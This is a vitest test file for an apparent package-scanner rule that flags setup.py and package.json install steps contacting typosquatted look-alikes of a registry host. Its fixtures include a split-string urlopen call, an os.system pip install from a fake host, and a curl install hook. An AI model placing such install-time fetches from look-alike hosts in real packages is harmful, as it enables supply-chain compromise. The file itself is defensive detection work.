import { expect, it } from 'vitest'
import { findingsIn, packageOf, verdictOf } from '../../test/samples.ts'
import { impersonatedHost } from './impersonated-host.ts'
import { severities, suspected } from './kit/testing.ts'

it('weighs by what is done with the host', () => expect(severities(impersonatedHost)).toEqual({
  'contains-name': 'high', 'go-code-host': 'high', 'import-recombined': 'critical', literal: 'medium', 'pip-lookalike': 'critical', requirement: 'high', vendor: 'high',
}))

it('lets honest packages pass', () => expect(suspected(impersonatedHost)).toEqual([]))

it('names both hosts and the place', () => {
  const [finding] = findingsIn(packageOf({ says: '', ecosystem: 'pypi', files: {
    'setup.py': 'import urllib.request\n\nurllib.request.urlopen("https://files." + "packaghosted" + ".example/x")\n' } }), impersonatedHost)
  expect(finding?.title).toBe('building it (setup.py) speaks to files.packaghosted.example, which imitates files.packagehosted.example')
  expect(finding?.evidence[0]).toMatchObject({ file: 'setup.py', lines: [3, 3] })
})

it('makes an install from a look-alike malicious, with the host in the title', () => {
  const verdict = verdictOf(packageOf({ says: '', ecosystem: 'pypi', files: { 'setup.py': 'import os\nos.system("pip install https://files.acmeidxhosted.test/x-0.4.6.tar.gz")\n' }, outside: { ownHosts: ['acmeidx.example', 'files.packagehosted.example'] } }))
  expect(verdict.level).toBe('malicious')
  expect(verdict.findings.find(({ behaviour }) => behaviour === 'impersonation')?.title).toContain('files.acmeidxhosted.test, which imitates files.packagehosted.example')
})

it('knows no registry to imitate without its hosts', () => {
  const examined = packageOf({ says: '', ecosystem: 'npm', outside: { ownHosts: [] }, files: {
    'package.json': '{"scripts":{"install":"curl https://files.packaghosted.example"}}' } })
  expect(findingsIn(examined, impersonatedHost)).toEqual([])
})
